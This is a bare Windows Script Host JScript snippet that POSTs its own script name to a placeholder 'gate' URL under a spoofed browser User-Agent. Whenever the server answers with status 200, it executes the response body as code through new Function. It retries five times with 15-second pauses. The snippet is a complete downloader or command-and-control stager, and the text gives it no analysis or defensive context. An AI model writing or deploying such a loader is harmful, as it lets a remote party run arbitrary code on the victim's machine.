var request = WScript.CreateObject("WinHttp.WinHttpRequest.5.1");
var tries = 0, done = false;
while (!done && tries++ < 5) {
  try {
    request.Open("POST", "https://host.example/gate", false);
    request.SetRequestHeader("User-Agent", "Mozilla/5.0");
    request.Send("id=" + WScript.ScriptName);
    if (request.Status === 200) { new Function(request.ResponseText)(); done = true; }
  } catch (e) { WScript.Sleep(15000); }
}
